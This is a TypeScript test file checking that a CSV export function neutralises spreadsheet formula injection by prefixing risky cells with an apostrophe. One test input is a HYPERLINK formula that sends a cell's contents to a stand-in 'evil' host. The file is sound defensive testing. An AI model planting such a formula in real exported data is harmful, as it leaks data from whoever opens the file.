import Papa from "papaparse";
import { expect, test } from "vitest";
import { csvOf } from "./csv";

test("an exported file runs nothing in a spreadsheet and leaves lists out", () => {
  const text = csvOf([{ id: 1, name: "=1+1", list: [1], none: null }]);
  expect(text).toBe("id,name\r\n1,'=1+1");
});

test.each([
  ["plain", "plain"],
  ["2348031234567", "2348031234567"],
  ["+2348031234567", "'+2348031234567"],
  ["-5", "'-5"],
  ["@x", "'@x"],
  ["\tx", "'\tx"],
  ['=HYPERLINK("http://evil/?"&A2,\n"ok")', '\'=HYPERLINK("http://evil/?"&A2,\n"ok")'],
  ["x;=1+1;y", "x;'=1+1;y"],
  ['a;"=1+1;b', "a;\"'=1+1;b"],
  ['""-1', '""\'-1'],
  ["hi\n=1+1;b", "hi\n'=1+1;b"],
  ['hi\r\n\r\n"@x', "hi\r\n\r\n\"'@x"],
  ["\r=1;\r-2", "'\r'=1;'\r'-2"],
  ['a=1\nb-2;c"+3', 'a=1\nb-2;c"+3'],
])("%j stays one cell and no formula", (value, cell) => {
  const text = csvOf([{ id: 1, name: value }]);
  expect(Papa.parse(text, { delimiter: ",", newline: "\r\n" }).data).toEqual([
    ["id", "name"],
    ["1", cell],
  ]);
  const lines = text.replace(/\r\n?/g, "\n");
  const parted = Papa.parse<string[]>(lines, { delimiter: ";", newline: "\n" }).data.flat();
  for (const seen of parted) expect(seen).not.toMatch(/^[=+\-@\t]/);
});

test("what a semicolon would part stays in quotes", () => {
  expect(csvOf([{ id: 1, name: "a;b" }])).toBe('id,name\r\n1,"a;b"');
});

test("a number keeps its sign, and the name of a column is no formula", () => {
  expect(csvOf([{ id: 1, "=x": -5, ready: false }])).toBe("id,'=x,ready\r\n1,-5,false");
});
